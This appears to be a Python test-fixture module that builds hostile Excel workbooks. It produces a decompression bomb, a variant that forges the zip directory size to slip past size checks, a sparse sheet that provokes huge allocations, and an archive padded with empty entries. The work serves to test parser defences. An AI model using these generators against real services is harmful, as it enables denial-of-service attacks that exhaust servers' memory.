"""Makes small workbooks that exhaust the memory of a process that unpacks them (zip bombs)."""

import struct
import zipfile
from pathlib import Path

import xlsxwriter

SHEET = "xl/worksheets/sheet1.xml"


def plain(path: Path) -> Path:
    """Write an ordinary workbook with two rows."""
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["no", "name"])
        sheet.write_row(1, 0, ["1", "x"])
    return path


def sparse(path: Path) -> Path:
    """Write a workbook with cells in two opposite corners; a reader may allocate the 17 billion cells between them."""
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "no")
        sheet.write(1_048_575, 16_383, "x")
    return path


def bomb(path: Path, megabytes: int, lies: bool = False) -> Path:
    """Write a workbook whose sheet unpacks to `megabytes`; with `lies` the zip directory declares 1000 bytes for it."""
    plain(path)
    with zipfile.ZipFile(path) as before:
        entries = {entry.filename: before.read(entry) for entry in before.infolist()}
    head, tail = entries.pop(SHEET).split(b"</sheetData>")
    cell = b'<row><c t="inlineStr"><is><t>%s</t></is></c></row>' % (b"x" * 1_000_000)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as after:
        for name, data in entries.items():
            after.writestr(name, data)
        with after.open(SHEET, "w") as sheet:
            sheet.write(head)
            for _ in range(megabytes):
                sheet.write(cell)
            sheet.write(b"</sheetData>" + tail)
    if lies:
        raw = path.read_bytes()
        size = struct.pack("<L", len(head) + len(cell) * megabytes + len(b"</sheetData>" + tail))
        assert raw.count(size) >= 1
        path.write_bytes(raw.replace(size, struct.pack("<L", 1000)))
    return path


def crowded(path: Path, entries: int) -> Path:
    """Write a workbook whose zip archive has `entries` additional empty files."""
    plain(path)
    with zipfile.ZipFile(path, "a") as book:
        for number in range(entries):
            book.writestr(f"xl/more/{number}.xml", "")
    return path
